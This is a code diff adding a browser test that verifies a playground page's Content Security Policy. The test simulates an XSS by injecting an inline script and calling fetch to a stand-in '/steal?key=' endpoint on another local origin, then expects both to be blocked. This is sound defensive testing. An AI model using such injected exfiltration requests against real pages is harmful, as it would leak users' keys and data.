@@ -285,4 +285,22 @@ describe('Playground in a browser', () => {
     expect(await page.textContent('#file-name')).toMatch(/^playground-invoice-\d+\.pdf \(/);
     expect(await page.isEnabled('#run')).toBe(true);
   }, 60_000);
+
+  it('enforces its CSP: injected script does not run, and the page cannot connect to another origin', async () => {
+    const { page } = await open();
+    const outcome = await page.evaluate(async () => {
+      const violations: string[] = [];
+      document.addEventListener('securitypolicyviolation', (e: any) => violations.push(e.effectiveDirective));
+      // Markup injected into the page (what an XSS would add): an inline script, and a fetch carrying the key elsewhere.
+      const script = document.createElement('script');
+      script.textContent = 'globalThis.__injected = true';
+      document.body.append(script);
+      const exfiltration = await fetch('http://127.0.0.2:9/steal?key=x').then(() => 'sent', () => 'blocked');
+      await new Promise((r) => setTimeout(r, 100));
+      return { injected: (globalThis as any).__injected === true, exfiltration, violations };
+    });
+    expect(outcome.injected).toBe(false);
+    expect(outcome.exfiltration).toBe('blocked');
+    expect(outcome.violations).toEqual(expect.arrayContaining(['script-src-elem', 'connect-src']));
+  }, 60_000);
 });
